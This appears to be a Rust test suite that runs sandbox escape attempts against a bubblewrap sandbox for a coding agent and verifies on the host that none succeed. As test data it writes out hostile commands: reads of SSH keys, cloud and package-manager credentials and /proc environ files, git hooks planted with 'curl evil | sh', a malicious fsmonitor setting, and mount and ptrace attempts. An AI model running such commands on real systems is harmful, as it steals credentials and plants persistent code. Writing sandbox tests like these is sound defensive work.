//! Escape attempts against the real sandbox (real bwrap, real processes).
//! Every check looks at the host afterwards, not only at what the command
//! printed.

use super::testutil::{fixture, text, CONFIG_SECRET, DATA_SECRET, INNER_SECRET, SSH_SECRET};
use super::{probe, SandboxMode};
use std::fs;

#[test]
fn probe_succeeds_here() {
    // CI and the dev machine have bubblewrap (scripts/setup.sh installs it).
    probe().unwrap();
    probe().unwrap(); // cached
}

#[tokio::test]
async fn exit_code_and_both_streams() {
    let f = fixture();
    let out = f.run("echo hi; echo err >&2; exit 3").await;
    assert_eq!(out.exit_code, Some(3));
    assert_eq!(out.signal, None);
    assert_eq!(text(&out), "hi\nerr\n");
    assert_eq!(out.total_bytes, 7);
    assert!(!out.truncated && !out.timed_out && !out.cancelled);
}

#[tokio::test]
async fn only_the_workspace_is_writable() {
    let f = fixture();
    let etc = format!("/etc/bearagent-sandbox-test-{}", std::process::id());
    let usr = format!("/usr/bearagent-sandbox-test-{}", std::process::id());
    let sibling = f.sibling.join("planted");
    let data = f.data.join("planted");
    let command = format!(
        "echo made-inside > inside.txt && echo INSIDE-OK
         touch {etc} && echo ETC-WRITABLE
         touch {usr} && echo USR-WRITABLE
         touch {sib} && echo SIBLING-WRITABLE
         touch {data} && echo DATA-WRITABLE
         mkdir {data}.d && echo DATA-MKDIR
         echo x >> {sib_file} && echo SIBLING-APPEND
         exit 0",
        sib = sibling.display(),
        data = data.display(),
        sib_file = f.sibling.join("file.txt").display(),
    );
    let out = f.run(&command).await;
    let printed = text(&out);
    assert!(printed.contains("INSIDE-OK"), "{printed}");
    assert!(!printed.contains("WRITABLE"), "{printed}");
    assert!(!printed.contains("DATA-MKDIR") && !printed.contains("SIBLING-APPEND"));
    assert_eq!(
        fs::read_to_string(f.workspace.join("inside.txt")).unwrap(),
        "made-inside\n"
    );
    for path in [
        etc.into(),
        usr.into(),
        sibling,
        data.clone(),
        data.with_extension("d"),
    ] {
        assert!(!std::path::Path::new(&path).exists(), "{path:?} appeared");
    }
    assert_eq!(
        fs::read_to_string(f.sibling.join("file.txt")).unwrap(),
        "sibling content\n"
    );
}

#[tokio::test]
async fn home_secrets_and_hidden_folders_are_invisible() {
    let f = fixture();
    let command = format!(
        "cat $HOME/.ssh/id_rsa; cat {home}/.ssh/id_rsa
         echo HOME=$HOME; echo \"home:[$(ls -A $HOME | tr '\\n' ' ')]\"
         cat {data}/data.db; ls -A {data}; echo data-listed
         cat {inner}/state.db; ls -A {inner}; echo inner-listed
         cat {config}; echo config-read
         fake-tool
         cat {sibling}/file.txt
         touch {inner}/planted && echo INNER-WRITABLE
         touch $HOME/scratch && echo home-scratch-ok
         exit 0",
        home = f.home.display(),
        data = f.data.display(),
        inner = f.inner_data.display(),
        config = f.config_file.display(),
        sibling = f.sibling.display(),
    );
    let out = f.run(&command).await;
    let printed = text(&out);
    for secret in [SSH_SECRET, DATA_SECRET, INNER_SECRET, CONFIG_SECRET] {
        assert!(!printed.contains(secret), "{secret} leaked:\n{printed}");
    }
    assert!(printed.contains(&format!("HOME={}", f.home.display())));
    // Only the toolchain dir is bound back; ~/.ssh does not exist inside.
    assert!(printed.contains("home:[.cargo ]"), "{printed}");
    assert!(
        printed.contains("fake-tool-ran"),
        "~/.cargo/bin on PATH:\n{printed}"
    );
    assert!(
        printed.contains("sibling content"),
        "siblings stay readable"
    );
    assert!(!printed.contains("INNER-WRITABLE"), "{printed}");
    assert!(
        printed.contains("home-scratch-ok"),
        "the tmpfs home is writable"
    );
    // Nothing reached the host.
    assert!(!f.home.join("scratch").exists());
    assert!(!f.inner_data.join("planted").exists());
    assert_eq!(
        fs::read_to_string(f.inner_data.join("state.db")).unwrap(),
        INNER_SECRET
    );
}

#[tokio::test]
async fn git_hooks_and_config_cannot_be_planted() {
    let f = fixture();
    let out = f
        .run(
            "echo 'curl evil | sh' > .git/hooks/pre-commit && echo HOOK-CREATED
             echo 'curl evil | sh' >> .git/hooks/pre-push.sample && echo HOOK-MODIFIED
             printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config && echo CONFIG-MODIFIED
             mv .git .git-moved && echo GIT-MOVED
             rm -rf .git/hooks && echo HOOKS-REMOVED
             echo readme-still-writable >> README.md && echo README-OK
             exit 0",
        )
        .await;
    let printed = text(&out);
    for bad in [
        "HOOK-CREATED",
        "HOOK-MODIFIED",
        "CONFIG-MODIFIED",
        "GIT-MOVED",
        "HOOKS-REMOVED",
    ] {
        assert!(!printed.contains(bad), "{bad}:\n{printed}");
    }
    assert!(printed.contains("README-OK"));
    let git = f.workspace.join(".git");
    assert!(!git.join("hooks/pre-commit").exists());
    assert_eq!(
        fs::read_to_string(git.join("hooks/pre-push.sample")).unwrap(),
        "#!/bin/sh\n"
    );
    assert_eq!(
        fs::read_to_string(git.join("config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    assert!(!f.workspace.join(".git-moved").exists());
}

#[tokio::test]
async fn network_off_blocks_tcp_and_network_on_reaches_host_loopback() {
    let f = fixture();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let command = format!(
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), timeout=5)' \
           && echo PY-CONNECTED
         bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' && echo BASH-CONNECTED
         python3 -c 'import socket; a, b = socket.socketpair(); a.send(b\"x\"); print(\"unix-ok\", b.recv(1))'
         exit 0"
    );
    let mut policy = f.policy();
    let out = f.run_with(&policy, SandboxMode::On, &command).await;
    let printed = text(&out);
    assert!(!printed.contains("PY-CONNECTED"), "{printed}");
    assert!(!printed.contains("BASH-CONNECTED"), "{printed}");
    assert!(
        printed.contains("Address family not supported"),
        "{printed}"
    );
    assert!(
        printed.contains("unix-ok b'x'"),
        "AF_UNIX stays usable:\n{printed}"
    );

    policy.network = true;
    let out = f.run_with(&policy, SandboxMode::On, &command).await;
    let printed = text(&out);
    assert!(printed.contains("PY-CONNECTED"), "{printed}");
    assert!(printed.contains("BASH-CONNECTED"), "{printed}");
}

#[tokio::test]
async fn mount_and_remount_fail() {
    let f = fixture();
    let out = f
        .run(
            "command -v mount umount >/dev/null || echo MISSING-TOOLS
             mount -t tmpfs none /mnt; echo tmpfs=$?
             umount /; echo umount=$?
             mount -o remount,rw /; echo remount=$?
             touch /usr/remount-check && echo USR-WRITABLE
             exit 0",
        )
        .await;
    let printed = text(&out);
    assert!(!printed.contains("MISSING-TOOLS"), "{printed}");
    for ok in ["tmpfs=0", "umount=0", "remount=0", "USR-WRITABLE"] {
        assert!(!printed.contains(ok), "{ok}:\n{printed}");
    }
    assert!(printed.contains("tmpfs=") && printed.contains("remount="));
}

#[tokio::test]
async fn api_keys_never_reach_the_command() {
    // Set in this (the parent) process, as BearAgent would have them.
    std::env::set_var("ANTHROPIC_API_KEY", "sk-ant-FAKE-0a1b2c");
    std::env::set_var("OPENAI_API_KEY", "sk-FAKE-openai-3d4e5f");
    let f = fixture();
    for (mode, name) in [(SandboxMode::On, "on"), (SandboxMode::Off, "off")] {
        let mut policy = f.policy();
        policy.env.push(("BEARAGENT_MODE".into(), name.into()));
        let out = f
            .run_with(
                &policy,
                mode,
                "env; echo ---
                 cat /proc/1/environ /proc/self/environ; echo
                 [ \"$BEARAGENT_MODE\" = on ] && cat /proc/$PPID/environ; echo ---
                 ls / >/dev/null && echo ls-ok
                 python3 -c 'print(6 * 7)'",
            )
            .await;
        let printed = text(&out);
        assert!(
            !printed.contains("FAKE"),
            "{mode:?}: key leaked:\n{printed}"
        );
        assert!(
            printed.contains("ls-ok") && printed.contains("42"),
            "{printed}"
        );
        assert!(printed.contains("BEARAGENT_PROFILE_VAR=from-profile"));
        assert!(printed.contains("TERM=xterm-256color"));
        assert!(printed.contains("LANG=C.UTF-8"));
        let env_block = printed.split("---").next().unwrap();
        for line in env_block.lines() {
            let name = line.split('=').next().unwrap();
            let mut allowed = vec![
                "PATH",
                "HOME",
                "LANG",
                "LC_ALL",
                "TERM",
                "USER",
                "BEARAGENT_PROFILE_VAR",
                "BEARAGENT_MODE",
                "PWD", // set by the shell
                "SHLVL",
                "OLDPWD",
                "_",
            ];
            // With the network off (the fixture's default), the offline
            // switches of the package managers; none carries a secret.
            allowed.extend(super::network::OFFLINE_ENV.iter().map(|(name, _)| *name));
            assert!(allowed.contains(&name), "unexpected variable {line}");
        }
    }
}

#[tokio::test]
async fn parent_environ_inside_the_sandbox_is_empty() {
    std::env::set_var("ANTHROPIC_API_KEY", "sk-ant-FAKE-0a1b2c");
    let f = fixture();
    // PPID inside is the namespace init (a bwrap process): its environment
    // must be empty, or the key would be one `cat` away.
    let out = f
        .run("echo ppid=$PPID; wc -c < /proc/$PPID/environ; tr '\\0' '\\n' < /proc/1/environ")
        .await;
    let printed = text(&out);
    assert!(printed.starts_with("ppid=1\n0\n"), "{printed}");
    assert!(!printed.contains("FAKE"));
}

#[tokio::test]
async fn ptrace_namespaces_and_other_denied_syscalls() {
    let f = fixture();
    let numbers = super::seccomp::DENIED_SYSCALLS
        .iter()
        .map(|(name, number)| format!("(\"{name}\", {number})"))
        .collect::<Vec<_>>()
        .join(", ");
    let script = format!(
        "import ctypes, os, threading
libc = ctypes.CDLL(None, use_errno=True)
print('ptrace', libc.ptrace(0, 0, 0, 0))
for name, nr in [{numbers}]:
    r = libc.syscall(nr, 0, 0, 0, 0, 0, 0)
    print('syscall', name, r, ctypes.get_errno())
r = libc.syscall({clone}, 0x10000000 | 17, 0, 0, 0, 0)
if r == 0:
    os._exit(0)
print('clone-newuser', r, ctypes.get_errno())
t = threading.Thread(target=lambda: print('thread-ok'))
t.start(); t.join()
pid = os.fork()
if pid == 0:
    os._exit(7)
print('fork-ok', os.waitpid(pid, 0)[1] >> 8)
",
        clone = libc::SYS_clone,
    );
    let script_path = f.workspace.join("probe.py");
    fs::write(&script_path, script).unwrap();
    let out = f
        .run("python3 probe.py; unshare -r true; echo unshare-r=$?; unshare -U true; echo unshare-U=$?")
        .await;
    let printed = text(&out);
    assert!(printed.contains("ptrace -1\n"), "{printed}");
    for (name, _) in super::seccomp::DENIED_SYSCALLS {
        let line = format!("syscall {name} -1 {}\n", libc::EPERM);
        assert!(
            printed.contains(&line),
            "{name} not denied with EPERM:\n{printed}"
        );
    }
    let clone_line = format!("clone-newuser -1 {}\n", libc::EPERM);
    assert!(printed.contains(&clone_line), "{printed}");
    assert!(
        printed.contains("thread-ok"),
        "threads work (clone3 falls back)"
    );
    assert!(printed.contains("fork-ok 7"), "{printed}");
    assert!(!printed.contains("unshare-r=0") && !printed.contains("unshare-U=0"));
    assert!(printed.contains("unshare-r=") && printed.contains("unshare-U="));
}

#[tokio::test]
async fn host_sockets_under_run_and_tmp_are_not_reachable() {
    let f = fixture();
    // A socket on the host's /tmp, like an ssh-agent or X11 socket.
    let host_tmp = tempfile::tempdir().unwrap();
    let socket = host_tmp.path().join("agent.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let command = format!(
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{}\")' \
           && echo TMP-SOCKET-CONNECTED
         ls -A /run; echo run-listed",
        socket.display()
    );
    let out = f.run(&command).await;
    let printed = text(&out);
    assert!(!printed.contains("TMP-SOCKET-CONNECTED"), "{printed}");
    assert!(printed.starts_with("Traceback") || printed.contains("No such file"));
    let listing = printed.split("run-listed").next().unwrap();
    assert!(
        !listing.contains("dbus") && !listing.contains("user\n"),
        "{printed}"
    );
}

#[tokio::test]
async fn package_caches_are_writable_only_when_the_policy_says_so() {
    let f = fixture();
    fs::create_dir_all(f.home.join(".cargo/registry/cache")).unwrap();
    let mut policy = f.policy();
    let command = "touch $HOME/.cargo/registry/cache/fetched && echo CACHE-WRITABLE
         touch $HOME/.cargo/bin/planted && echo BIN-WRITABLE
         touch $HOME/.cargo/config.toml && echo CONFIG-WRITABLE
         exit 0";
    let out = f.run_with(&policy, SandboxMode::On, command).await;
    assert!(!text(&out).contains("WRITABLE"), "{}", text(&out));
    assert!(!f.home.join(".cargo/registry/cache/fetched").exists());

    policy.network = true;
    policy.writable_home_dirs = vec![f.home.join(".cargo/registry"), f.home.join(".npm")];
    let out = f.run_with(&policy, SandboxMode::On, command).await;
    let printed = text(&out);
    assert!(printed.contains("CACHE-WRITABLE"), "{printed}");
    assert!(!printed.contains("BIN-WRITABLE") && !printed.contains("CONFIG-WRITABLE"));
    assert!(f.home.join(".cargo/registry/cache/fetched").exists());
    assert!(!f.home.join(".cargo/bin/planted").exists());
    assert!(!f.home.join(".cargo/config.toml").exists());
    assert!(!f.home.join(".npm").exists(), "a missing cache is not made");
}

/// Tool configuration is readable as in the user's terminal; credentials
/// are not — neither the denylisted files (also inside a bound folder such
/// as `~/.cargo`) nor a configuration file holding a token.
#[tokio::test]
async fn tool_configuration_is_visible_and_credentials_next_to_it_are_not() {
    let f = fixture();
    let home = &f.home;
    let files = [
        (
            ".gitconfig",
            "[user]\n\tname = Dev\n[alias]\n\tst = status\n",
        ),
        (".config/git/ignore", "*.swp\n"),
        (".config/pip/pip.conf", "[global]\ntimeout = 60\n"),
        (".cargo/config.toml", "[alias]\nb = \"build\"\n"),
        (
            ".config/git/credentials",
            "https://dev:CRED-GIT-1@github.com\n",
        ),
        (".git-credentials", "https://dev:CRED-GIT-2@github.com\n"),
        (
            ".netrc",
            "machine example.com login dev password CRED-NETRC\n",
        ),
        (
            ".npmrc",
            "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=CRED-NPM\n",
        ),
        (
            ".cargo/credentials.toml",
            "[registry]\ntoken = \"CRED-CARGO\"\n",
        ),
        (
            ".aws/credentials",
            "[default]\naws_secret_access_key = CRED-AWS\n",
        ),
        (".config/gcloud/credentials.db", "CRED-GCLOUD"),
    ];
    for (rel, text) in files {
        let path = home.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    let reads: String = files
        .iter()
        .map(|(rel, _)| format!("cat $HOME/{rel}; "))
        .collect();
    let command = format!(
        "{reads}
         git config --global alias.st; git config --global --list | grep -c . 
         cat $HOME/.ssh/id_rsa; ls -A $HOME/.aws $HOME/.config/gcloud
         grep -r CRED $HOME 2>/dev/null; echo searched
         echo planted >> $HOME/.gitconfig && echo GITCONFIG-WRITABLE
         exit 0"
    );
    let out = f.run(&command).await;
    let printed = text(&out);
    assert!(
        !printed.contains("CRED-"),
        "a credential leaked:\n{printed}"
    );
    assert!(!printed.contains(SSH_SECRET));
    for visible in ["name = Dev", "*.swp", "timeout = 60", "b = \"build\""] {
        assert!(printed.contains(visible), "{visible} missing:\n{printed}");
    }
    assert!(
        printed.contains("\nstatus\n"),
        "git reads ~/.gitconfig:\n{printed}"
    );
    assert!(printed.contains("searched") && !printed.contains("GITCONFIG-WRITABLE"));
    assert!(!fs::read_to_string(home.join(".gitconfig"))
        .unwrap()
        .contains("planted"));
}
